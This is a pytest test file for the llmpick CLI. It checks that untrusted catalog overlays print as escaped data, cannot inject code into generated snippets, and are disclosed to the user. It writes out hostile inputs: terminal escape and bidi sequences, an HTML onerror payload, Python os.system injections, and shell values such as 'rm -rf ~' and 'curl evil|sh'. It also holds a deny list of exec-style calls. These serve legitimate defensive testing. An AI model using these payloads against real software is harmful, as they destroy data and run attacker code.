"""An overlay is somebody else's text (issue 12): its strings are data everywhere they
are shown, its identifiers cannot carry code into snippets, and what it changes is said."""

from __future__ import annotations

import ast
import dataclasses
import json
import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from llmpick.advice import api_snippet, ollama_snippet, transformers_snippet
from tests.conftest import FIXTURE_CATALOG, Result

# what a terminal would act on: escape sequences, C0 (but newline and tab), C1, bidi
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# rich markup, a hyperlink, OSC 52 (clipboard), a screen clear, a bidi override, C1 CSI,
# HTML and Markdown structure; written as YAML double-quoted escapes
HOSTILE = (
    r"[/INST] [link=https://evil.example]click[/link] [bold red]x[/] :smile: "
    r"\e]52;c;cHduZWQ=\a \e]8;;https://evil.example\e\\ \e[2J \u202Egnp.exe \x9b31m "
    r"<img src=x onerror=alert(1)> | cell | \n# heading \r\x07 *em* `code` &amp;"
)
HOSTILE_URL = r"https://evil.example/[/INST]\e]8;;x\a\u202E\x9b"  # a source allows no space


def q(text: str) -> str:
    return f'"{text}"'


PROVIDERS = f"""\
evil:
  name: {q(HOSTILE)}
  kinds: [open-source-company]
  channels: [open-weights]
  homepage: {q(HOSTILE_URL)}
  description: {q(HOSTILE)}
"""
LICENSES = f"""\
evil-licence:
  name: {q(HOSTILE)}
  commercial_use: conditional
  condition: {q(HOSTILE)}
  url: {q(HOSTILE_URL)}
  spdx: {q(HOSTILE)}
"""
DATASETS = f"""\
evilset:
  name: {q(HOSTILE)}
  url: {q(HOSTILE_URL)}
  snapshot: {q(HOSTILE)}
  license: evil-licence
  repository: {q(HOSTILE_URL)}
  key: {q(HOSTILE)}
"""
FAMILY = f"""\
name: {q(HOSTILE)}
provider: evil
released: 2025-01-01
architecture: decoder-only
status: active
description: {q(HOSTILE)}
aliases: [{q(HOSTILE)}]
license: evil-licence
open_weights: true
context_window: 8192
sources: [{q(HOSTILE_URL)}, "evilset:{HOSTILE_URL[8:]}"]
verified: 2026-11-26
variants:
  evil-7b-chat:
    name: {q(HOSTILE)}
    flavour: chat
    tuning: [sft]
    params_b: 7.0
    notes: {q(HOSTILE)}
    access: {{hf_repo: evil/Evil-7B-Chat, ollama: "evil:7b", api: evil-7b-chat}}
    arch: {{unpublished: {q(HOSTILE)}}}
    pricing: {{input: 1.0, output: 2.0, as_of: 2026-01-01, source: {q(HOSTILE_URL)}}}
    evidence:
      - {{benchmark: {q(HOSTILE)}, score: 50.0, metric: {q(HOSTILE)}, source: {q(HOSTILE_URL)}}}
"""


def make_overlay(root: Path, family: str = FAMILY, **files: str) -> Path:
    (root / "families" / "evil").mkdir(parents=True, exist_ok=True)
    (root / "families" / "evil" / "evil.yaml").write_text(family)
    (root / "providers.yaml").write_text(files.get("providers", PROVIDERS))
    (root / "licenses.yaml").write_text(files.get("licenses", LICENSES))
    (root / "datasets.yaml").write_text(files.get("datasets", DATASETS))
    return root


@pytest.fixture
def hostile(tmp_path: Path, fixture_catalog: Path) -> Path:
    return make_overlay(tmp_path / "hostile")


def assert_safe(text: str) -> None:
    found = UNSAFE.findall(text)
    assert not found, f"unsafe characters reach the output: {found!r}"


@pytest.mark.parametrize(
    "args",
    [
        ("show", "evil-7b-chat"),
        ("show", "evil"),
        ("models",),
        ("providers",),
        ("recommend", "--task", "chat", "--no-input", "--top", "20"),
        ("recommend", "--task", "chat", "--no-input", "--explain", "evil-7b-chat", "--commercial"),
        ("why", "evil-7b-chat", "--task", "chat"),
        ("show", "evil-7b-chat", "--snippet", "ollama"),
        ("show", "evil-7b-chat", "--snippet", "transformers"),
        ("fit", "evil-7b-chat", "--gpu-memory", "24"),
        ("catalog", "validate"),
    ],
)
def test_every_text_field_prints_as_data(
    hostile: Path, cli: Callable[..., Result], args: tuple[str, ...]
) -> None:
    r = cli("--catalog", str(hostile), *args)
    assert r.code == 0, r
    assert_safe(r.out)
    assert_safe(r.err)
    assert "MarkupError" not in r.err
    if args[0] == "show" and "--snippet" not in args:
        # markup is shown as written, not interpreted (and not dropped)
        assert "[/INST] [link=https://evil.example]click[/link]" in r.out
        assert ":smile:" in r.out


def test_markup_in_a_note_is_not_an_internal_error(
    hostile: Path, cli: Callable[..., Result]
) -> None:
    r = cli("--catalog", str(hostile), "show", "evil-7b-chat")
    assert r.code == 0, r
    assert "[/INST]" in r.out and "gnp.exe" in r.out


def test_json_keeps_the_text_exactly_and_escaped(hostile: Path, cli: Callable[..., Result]) -> None:
    import yaml

    expected = yaml.safe_load(f"x: {q(HOSTILE)}")["x"]
    r = cli("--catalog", str(hostile), "show", "evil-7b-chat", "--json")
    assert r.code == 0, r
    assert "\x1b" not in r.out  # JSON escapes C0 controls
    assert json.loads(r.out)["name"] == expected  # data is not altered, only escaped


def test_markdown_export_escapes_every_cell_and_heading(
    hostile: Path, cli: Callable[..., Result], tmp_path: Path
) -> None:
    md = tmp_path / "out.md"
    r = cli(
        "--catalog", str(hostile), "recommend", "--task", "chat", "--no-input", "--top", "20",
        "--export", str(md),
    )  # fmt: skip
    assert r.code == 0, r
    text = md.read_text()
    assert_safe(text)
    assert not re.search(r"(?<!\\)[<>]", text)  # no HTML: every angle bracket escaped
    assert "\\<img src=x onerror=alert(1)\\>" in text
    # the table keeps its shape: every row has as many unescaped pipes as the header
    rows = [ln for ln in text.splitlines() if ln.startswith("| ")]
    widths = {len(re.findall(r"(?<!\\)\|", ln)) for ln in rows}
    assert widths == {9}, rows
    # no line was injected: headings are only ours
    headings = [ln for ln in text.splitlines() if ln.startswith("#")]
    assert all(not ln.startswith("# heading") for ln in headings), headings
    assert any(ln.startswith("### ") and "\\[/INST\\]" in ln for ln in headings)
    (listed,) = [ln for ln in text.splitlines() if ln.startswith("Overlays in force: ")]
    assert str(hostile).replace("_", "\\_") in listed


# --- snippets -------------------------------------------------------------------

EVIL_IDS = [
    'x/y"); __import__("os").system("touch /tmp/pwned"); ("',
    "x/y'); import os; os.system('id'); ('",
    'x\\", exec("1") #',
    "x/y\n__import__('os')",
    "x/y\u202e\x1b[2J",
]


def _variant(**access: str) -> object:
    from llmpick.catalog.load import load_catalog
    from llmpick.catalog.records import Access

    v = load_catalog(base=FIXTURE_CATALOG, use_cache=False).variants["rocket-7b-chat"]
    return dataclasses.replace(v, access=Access(**access))  # type: ignore[type-var]


def _string_literals(code: str) -> list[str]:
    tree = ast.parse(code)
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    names = {getattr(c.func, "attr", getattr(c.func, "id", "")) for c in calls}
    assert not names & {"system", "exec", "eval", "__import__", "popen"}, names
    return [n.value for n in ast.walk(tree) if isinstance(n, ast.Constant)]


@pytest.mark.parametrize("evil", EVIL_IDS)
def test_a_hostile_repo_or_api_id_stays_one_string_literal(evil: str) -> None:
    code = transformers_snippet(_variant(hf_repo=evil), "chat")  # type: ignore[arg-type]
    assert code is not None and evil in _string_literals(code)
    code = api_snippet(_variant(api=evil))  # type: ignore[arg-type]
    assert code is not None and evil in _string_literals(code)
    for plat in ("bedrock", "azure", "vertex", "sagemaker"):
        v = _variant()
        v = dataclasses.replace(v, access=dataclasses.replace(v.access, platforms={plat: evil}))  # type: ignore[attr-defined]
        code = api_snippet(v, plat)  # type: ignore[arg-type]
        assert code is not None and evil in _string_literals(code)


@pytest.mark.parametrize("evil", ["llama3; rm -rf ~", "x && curl evil|sh", "$(id)", "`id`", "a b"])
def test_a_hostile_ollama_tag_stays_one_shell_argument(evil: str) -> None:
    command = ollama_snippet(_variant(ollama=evil))  # type: ignore[arg-type]
    assert command is not None and shlex.split(command) == ["ollama", "run", evil]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("hf_repo", 'evil/x"); import os; ("'),
        ("hf_repo", "not-a-repo"),
        ("ollama", "evil:7b; rm -rf ~"),
        ("api", "evil && id"),
        ("api", "evil\u202e"),
    ],
)
def test_identifiers_without_the_shape_of_one_are_refused(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result], field: str, value: str
) -> None:
    access = f"access: {{{field}: {json.dumps(value)}}}"
    family = re.sub(r"access: \{.*\}", lambda _: access, FAMILY)
    r = cli("catalog", "validate", str(make_overlay(tmp_path / "o", family)))
    assert r.code == 3, r
    assert f"variants.evil-7b-chat.access.{field}: " in r.err and " is not " in r.err
    assert_safe(r.err)


# --- overlays are visible and accountable ------------------------------------------


def test_overlays_from_the_environment_are_listed(
    hostile: Path, cli: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LLMPICK_CATALOG", str(hostile))
    r = cli("recommend", "--task", "chat", "--json", "--top", "20")
    assert r.code == 0, r
    overlays = json.loads(r.out)["catalog"]["overlays"]
    assert str(hostile) in overlays and any("LLMPICK_BASE_CATALOG" in o for o in overlays)
    human = cli("recommend", "--task", "chat", "--no-input")
    assert "overlays in force: " in human.err and str(hostile) in human.err


LICENCE_FLIP = """\
nc:
  name: Non-commercial test licence
  commercial_use: "yes"
"""


def test_replacing_a_bundled_licence_needs_replaces_and_is_then_said(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result]
) -> None:
    root = tmp_path / "approved"
    root.mkdir()
    (root / "licenses.yaml").write_text(LICENCE_FLIP)
    r = cli("--catalog", str(root), "recommend", "--commercial", "--json", "--top", "20")
    assert r.code == 3, r
    assert "licenses.yaml:1: nc: licence 'nc' is already defined in catalog/licenses.yaml" in r.err
    (root / "licenses.yaml").write_text(LICENCE_FLIP.replace("nc:\n", "nc:\n  replaces: true\n"))
    r = cli("--catalog", str(root), "recommend", "--commercial", "--json", "--top", "20")
    assert r.code == 0, r
    (flipped,) = [c for c in json.loads(r.out)["candidates"] if c["id"] == "rocket-70b-instruct"]
    notes = [x["text"] for x in flipped["caveats"]]
    assert f"its licence 'nc' comes from overlay {root} (replacing the bundled entry)" in notes
    human = cli("--catalog", str(root), "show", "rocket-70b-instruct")
    said = " ".join(human.out.split())
    assert f"its licence 'nc' comes from overlay {root} (replacing the bundled entry)" in said
    md = tmp_path / "s.md"
    cli("--catalog", str(root), "recommend", "--commercial", "--top", "20", "--export", str(md))
    assert "comes from overlay" in md.read_text()


def test_replaces_must_be_true(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result]
) -> None:
    root = tmp_path / "o"
    root.mkdir()
    (root / "licenses.yaml").write_text(LICENCE_FLIP.replace("nc:\n", "nc:\n  replaces: maybe\n"))
    r = cli("catalog", "validate", str(root))
    assert r.code == 3 and "nc.replaces: replaces: must be true" in r.err, r


def test_an_overlay_cannot_claim_a_bundled_repo(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result]
) -> None:
    family = FAMILY.replace("evil/Evil-7B-Chat", "acme/Rocket-7B-Chat")
    r = cli("catalog", "validate", str(make_overlay(tmp_path / "o", family)))
    assert r.code == 3, r
    assert "access.hf_repo: 'acme/Rocket-7B-Chat' is the hf_repo of 'rocket-7b-chat'" in r.err
    family = FAMILY.replace('ollama: "evil:7b"', 'ollama: "rocket:7b"')
    r = cli("catalog", "validate", str(make_overlay(tmp_path / "p", family)))
    assert r.code == 3 and "is the ollama of 'rocket-7b-chat'" in r.err, r


def test_problem_messages_are_safe_to_print(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result]
) -> None:
    family = FAMILY.replace("  evil-7b-chat:\n", '  "\\e]52;c;eA==\\a\\e[2J\\u202e":\n', 1)
    r = cli("catalog", "validate", str(make_overlay(tmp_path / "o", family)))
    assert r.code == 3, r
    assert_safe(r.err)


def test_error_messages_quoting_arguments_are_safe_to_print(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result]
) -> None:
    r = cli("recommend", "-r", str(tmp_path / "x\x1b]52;c;eA==\x07\x1b[2J\u202ey.yaml"))
    assert r.code == 2 and "no such requirements file" in r.err, r
    assert_safe(r.err)
    r = cli("--catalog", str(tmp_path / "\x1b[2J\x9b"), "models")
    assert r.code == 3, r
    assert_safe(r.err)


# --- non-catalog paths, pipes and linear error reporting --------------------------


@pytest.mark.parametrize("path", ["/usr", "/proc/self", "/tmp"])
def test_a_directory_that_is_not_a_catalog_is_refused(
    fixture_catalog: Path, cli: Callable[..., Result], path: str
) -> None:
    r = cli("catalog", "validate", path)
    assert r.code == 3 and "not a catalog directory" in r.err, r


def test_pipes_are_refused_without_blocking(tmp_path: Path, fixture_catalog: Path) -> None:
    """In a process of their own (a read that blocks fails on the timeout instead of
    hanging the suite), the three command lines in turn in one."""
    import os

    from tests.conftest import runs_in_a_process

    family = make_overlay(tmp_path / "o1")
    os.mkfifo(family / "families" / "evil" / "x.yaml")
    providers = make_overlay(tmp_path / "o2")
    (providers / "providers.yaml").unlink()
    os.mkfifo(providers / "providers.yaml")
    os.mkfifo(tmp_path / "req.yaml")
    in_family, in_providers, requirements = runs_in_a_process(
        ("catalog", "validate", str(family)),
        ("catalog", "validate", str(providers)),
        ("recommend", "-r", str(tmp_path / "req.yaml")),
        timeout=30,
    )
    assert in_family.code == 3 and "x.yaml: not a regular file" in in_family.err, in_family
    assert in_providers.code == 3 and "providers.yaml: not a regular file" in in_providers.err
    assert requirements.code == 2 and "not a regular file" in requirements.err, requirements


def test_many_problems_in_one_file_are_reported_with_their_lines_and_counted(
    tmp_path: Path, fixture_catalog: Path, cli: Callable[..., Result]
) -> None:
    """2,000 problems: the first are named with their lines, the rest counted (the time
    it takes, linear, is a budget of benchmarks/bench.py's hostile files)."""
    n = 2000
    body = "".join(
        f"  v{i}:\n    name: V{i}\n    flavour: base\n    colour: blue\n" for i in range(n)
    )
    family = FAMILY.split("variants:\n")[0] + "variants:\n" + body
    root = make_overlay(tmp_path / "o", family)
    r = cli("catalog", "validate", str(root))
    assert r.code == 3 and f"and {n - 200} more" in r.err, r
    assert "evil.yaml:17: variants.v0.colour: unknown key" in r.err
    assert "evil.yaml:21: variants.v1.colour: unknown key" in r.err
